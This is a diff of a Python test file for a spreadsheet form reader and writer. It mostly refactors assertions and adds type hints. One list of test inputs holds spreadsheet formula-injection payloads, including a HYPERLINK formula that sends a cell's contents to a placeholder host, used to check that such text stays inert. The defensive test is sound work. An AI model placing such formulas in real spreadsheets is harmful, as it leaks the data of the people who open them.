@@ -14,6 +14,7 @@ from hypothesis import strategies as st
 from phoihop.base.security.uploads import worker
 from phoihop.engines.forms import sheet_child, sheet_in, sheet_layout, sheet_out
 from phoihop.engines.forms.definition import Form
+from phoihop.engines.forms.desk import Explained
 from phoihop.engines.forms.reading import Given, Reason
 from phoihop.engines.forms.sheet_in import Sheet
 from phoihop.engines.forms.tests.samples import TODAY
@@ -83,9 +84,8 @@ def test_each_row_has_a_verdict(rows: list[list[Any]], expected: list[Any]):
 
 
 def test_what_is_taken_is_exact():
-    sheet = read_back(
-        REGISTER, filled(REGISTER, [["a-1", date(2026, 11, 1), 0.1 + 0.2, "có", "mang ve", "x"]])
-    )
+    row = ["a-1", date(2026, 11, 1), 0.1 + 0.2, "có", "mang ve", "x", "nhà xa"]
+    sheet = read_back(REGISTER, filled(REGISTER, [row]))
     (line,) = sheet.lines(Given(TODAY))
     assert sheet.head(Given(TODAY)).head["month"] == MONTH
     assert line.values == {
@@ -98,11 +98,7 @@ def test_what_is_taken_is_exact():
         "note": "x",
     }
     (explained,) = line.explained
-    assert (explained.code, explained.check, explained.reason) == (
-        "kind",
-        "home-unseen",
-        Reason("other", "nhà xa"),
-    )
+    assert explained == Explained("kind", "home-unseen", Reason("other", "nhà xa"))
 
 
 def test_a_form_without_a_table_is_one_row_each_time():
@@ -154,7 +150,12 @@ ACTING = ['=HYPERLINK("http://e.example/?"&A1)', "+cmd", "-1+1", "@x", "＝1+1",
 
 @pytest.mark.parametrize("text", ACTING)
 def test_a_text_that_acts_stays_a_text_and_comes_back(text: str):
-    row = (["A-1", "1/11/2026", "sai", "", "", text, "vì sao"], {}, "C3: sai", frozenset({"amount"}))
+    row: sheet_out.Marked = (
+        ["A-1", "1/11/2026", "sai", "", "", text, "vì sao"],
+        {},
+        "C3: sai",
+        frozenset({"amount"}),
+    )
     data = sheet_out.marked(REGISTER, {"month": "30/11/2026"}, [row], "vi")
     (back,) = read_back(REGISTER, data).rows(Given(TODAY))
     assert list(back.texts) == list(row[0])
@@ -168,7 +169,7 @@ LINES = st.tuples(st.text(max_size=20), st.decimals(0, 120, places=2), st.dates(
 @given(st.lists(LINES, max_size=4))
 def test_what_goes_out_comes_back(lines: list[tuple[str, Decimal, date]]):
     notes = ["".join(c for c in note if c.isprintable()).strip() for note, _, _ in lines]
-    rows = [
+    rows: list[sheet_out.Marked] = [
         (
             [f"P-{n}", "ngày", "số", "", "", notes[n], ""],
             {"person": f"P-{n}", "amount": amount, "day": day},
